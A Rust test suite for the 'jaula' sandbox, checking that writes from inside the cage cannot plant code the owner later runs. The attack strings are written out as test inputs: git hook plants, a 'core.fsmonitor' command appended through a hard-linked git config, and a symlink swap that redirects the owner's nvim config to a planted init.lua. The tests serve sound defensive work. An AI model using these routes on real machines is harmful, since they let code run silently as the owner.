/// Each route is refused in the cage, the hook's bytes stay the owner's, and the owner's
/// next commit runs nothing; uncaged, the same write makes that commit run it.
fn hook_routes_are_refused(backend: &str, user: User) {
    if !backend_or_skip(backend, user) {
        return;
    }
    for route in HOOK_ROUTES {
        let (name, _, _, planted) = *route;
        let (f, attack, ran) = hook_route(route, backend, user);
        let target = f.root.join(planted);
        let before = fs::read(&target).ok();
        let out = f.caged(backend, &[], &attack);
        assert!(
            !out.status.success(),
            "{user:?} {backend} {name}: `{attack}` succeeded"
        );
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("jaula: refused"),
            "{user:?} {backend} {name}: no refusal line\n{}",
            text(&out)
        );
        assert_eq!(fs::read(&target).ok(), before, "{user:?} {backend} {name}");
        f.host_git(&["commit", "-q", "--allow-empty", "-m", "owner"]);
        assert!(
            !ran.exists(),
            "{user:?} {backend} {name}: the owner's commit ran the planted hook"
        );

        // The control: the same write, uncaged, as the same user.
        let (c, attack, ran) = hook_route(route, "control", user);
        let mut sh = Command::new("/bin/sh");
        sh.args(["-c", &attack]).current_dir(&c.repo);
        c.as_owner(&mut sh);
        let out = sh.output().unwrap();
        assert!(
            out.status.success(),
            "{user:?} {name} control: {}",
            text(&out)
        );
        c.host_git(&["commit", "-q", "--allow-empty", "-m", "owner"]);
        assert!(
            ran.exists(),
            "{user:?} {name} control: the planted hook did not run"
        );
    }
}

fn landlock_hook_routes_are_refused(user: User) {
    hook_routes_are_refused("landlock", user);
}

fn bwrap_hook_routes_are_refused(user: User) {
    hook_routes_are_refused("bwrap", user);
}

jaula_testkit::as_each_user!(
    landlock_hook_routes_are_refused =>
    landlock_refuses_hook_routes_as_root,
    landlock_refuses_hook_routes_as_nobody
);

jaula_testkit::as_each_user!(
    bwrap_hook_routes_are_refused =>
    bwrap_refuses_hook_routes_as_root,
    bwrap_refuses_hook_routes_as_nobody
);

/// `~/.config/git/config` with a second hard link the owner keeps in `~/.config` (a
/// writable root): appending `core.fsmonitor` through that name is refused, and the owner's
/// next `git status` runs nothing. The control, uncaged, runs it.
fn hard_linked_git_config_is_refused(backend: &str, user: User) {
    if !backend_or_skip(backend, user) {
        return;
    }
    for caged in [true, false] {
        let f = Fixture::new(&format!("cfglink-{backend}"), user);
        let config = f.home.join(".config/git/config");
        let other = f.home.join(".config/git-config.bak");
        fs::hard_link(&config, &other).unwrap();
        let before = fs::read(&config).unwrap();
        let ran = f.root.join("ran-fsmonitor");
        let attack = format!(
            "printf '[core]\\n\\tfsmonitor = \"touch {}; false\"\\n' >> {}",
            ran.display(),
            other.display()
        );
        let out = if caged {
            f.caged(backend, &[], &attack)
        } else {
            let mut sh = Command::new("/bin/sh");
            sh.args(["-c", &attack]).current_dir(&f.repo);
            f.as_owner(&mut sh);
            sh.output().unwrap()
        };
        f.host_git(&["status", "--short"]);
        if caged {
            let want = format!(
                "jaula: refused write to {}: it is within the protected path {} under another name",
                other.display(),
                config.display()
            );
            assert!(
                !out.status.success() && String::from_utf8_lossy(&out.stderr).contains(&want),
                "{user:?} {backend}: {want}\n{}",
                text(&out)
            );
            assert_eq!(fs::read(&config).unwrap(), before);
            assert!(!ran.exists(), "{user:?} {backend}: core.fsmonitor ran");
        } else {
            assert!(out.status.success(), "{user:?} control: {}", text(&out));
            assert!(ran.exists(), "{user:?} control: core.fsmonitor did not run");
        }
    }
}

fn landlock_hard_linked_git_config(user: User) {
    hard_linked_git_config_is_refused("landlock", user);
}

fn bwrap_hard_linked_git_config(user: User) {
    hard_linked_git_config_is_refused("bwrap", user);
}

jaula_testkit::as_each_user!(
    landlock_hard_linked_git_config =>
    landlock_refuses_a_hard_linked_git_config_as_root,
    landlock_refuses_a_hard_linked_git_config_as_nobody
);

jaula_testkit::as_each_user!(
    bwrap_hard_linked_git_config =>
    bwrap_refuses_a_hard_linked_git_config_as_root,
    bwrap_refuses_a_hard_linked_git_config_as_nobody
);

/// The owner's `~/.config/nvim -> <repo>/scripts/../nvim`: the kernel takes `..` of
/// whatever stands at `scripts` when the owner's editor starts, so a symlink put there in
/// place of the directory would move the editor's config to a directory of the cage's
/// choosing. Only a directory may stand at `scripts`: removing it is ordinary work, a
/// symlink made there is refused and named, and the owner's editor config still resolves
/// to the owner's file.
fn dot_dot_in_an_owners_link_is_held(backend: &str, user: User) {
    if !backend_or_skip(backend, user) {
        return;
    }
    let f = Fixture::new("dotdot", user);
    fs::create_dir_all(f.repo.join("scripts")).unwrap();
    fs::create_dir_all(f.repo.join("nvim")).unwrap();
    fs::write(f.repo.join("nvim/init.lua"), "-- owner\n").unwrap();
    fs::create_dir_all(f.home.join(".config")).unwrap();
    let link = f.home.join(".config/nvim");
    std::os::unix::fs::symlink(f.repo.join("scripts/../nvim"), &link).unwrap();
    user.own(&f.root);
    let out = f.caged(
        backend,
        &[],
        "rm -r scripts && mkdir -p elsewhere/x elsewhere/nvim && \
         echo 'vim.cmd(\"!touch planted\")' > elsewhere/nvim/init.lua && \
         ln -s \"$PWD/elsewhere/x\" scripts",
    );
    assert!(!out.status.success(), "{}", text(&out));
    let scripts = f.repo.join("scripts");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(&format!(
            "jaula: refused create of {}: only a directory may stand on the way to the \
             protected path {}",
            scripts.display(),
            f.repo.join("nvim").display()
        )),
        "{}",
        text(&out)
    );
    assert!(
        fs::symlink_metadata(&scripts).is_err(),
        "the symlink must not stand"
    );
    // A directory may come back there, and the owner's editor config is the owner's.
    let out = f.caged(backend, &[], "mkdir scripts");
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        fs::read_to_string(link.join("init.lua")).unwrap(),
        "-- owner\n"
    );
}

case_tests! {
    landlock_holds_dot_dot_in_an_owners_link_as_root => dot_dot_in_an_owners_link_is_held("landlock", User::Root);
    landlock_holds_dot_dot_in_an_owners_link_as_nobody => dot_dot_in_an_owners_link_is_held("landlock", User::Nobody);
    bwrap_holds_dot_dot_in_an_owners_link_as_root => dot_dot_in_an_owners_link_is_held("bwrap", User::Root);
    bwrap_holds_dot_dot_in_an_owners_link_as_nobody => dot_dot_in_an_owners_link_is_held("bwrap", User::Nobody);
}
